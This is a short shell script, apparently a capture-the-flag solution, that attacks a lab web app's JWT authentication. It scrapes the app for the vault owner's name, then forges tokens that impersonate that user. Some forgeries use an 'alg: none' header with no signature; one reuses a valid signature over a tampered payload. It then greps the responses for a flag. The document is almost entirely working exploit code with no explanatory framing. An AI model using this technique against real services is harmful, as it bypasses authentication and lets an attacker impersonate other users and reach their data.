#-- tokens without a signature, and claims changed under the old one
token=$(curl -s -X POST -d '' http://app:8080/token)
curl -s -H "Authorization: Bearer $token" http://app:8080/drawers > /tmp/drawers
master=$(grep -o 'master of the vault is [^.]*' /tmp/drawers | grep -o '[^ ]*$')
drawer=$(grep "kept by $master<" /tmp/drawers | grep -o '[a-z]*-[0-9]*' | head -1)
body=$(printf '{"sub": "%s", "exp": 9999999999}' "$master" | base64 -w0 | tr -d '=' | tr '+/' '-_')
for algorithm in none None NONE ''; do
    head=$(printf '{"alg": "%s", "typ": "JWT"}' "$algorithm" | base64 -w0 | tr -d '=' | tr '+/' '-_')
    curl -s -H "Authorization: Bearer $head.$body." "http://app:8080/drawer/$drawer"
done > /tmp/answers
curl -s -H "Authorization: Bearer ${token%%.*}.$body.${token##*.}" "http://app:8080/drawer/$drawer" >> /tmp/answers
grep -o 'flag{[0-9a-f]*}' /tmp/answers || echo none
